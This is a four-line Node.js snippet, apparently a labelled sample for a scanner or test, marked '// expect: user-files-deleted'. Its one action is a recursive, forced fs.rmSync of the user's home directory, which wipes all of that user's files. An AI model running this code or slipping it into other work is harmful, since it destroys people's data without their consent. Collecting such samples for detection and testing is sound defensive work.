const fs = require("fs");
const os = require("os");
// expect: user-files-deleted
fs.rmSync(os.homedir(), { recursive: true, force: true });
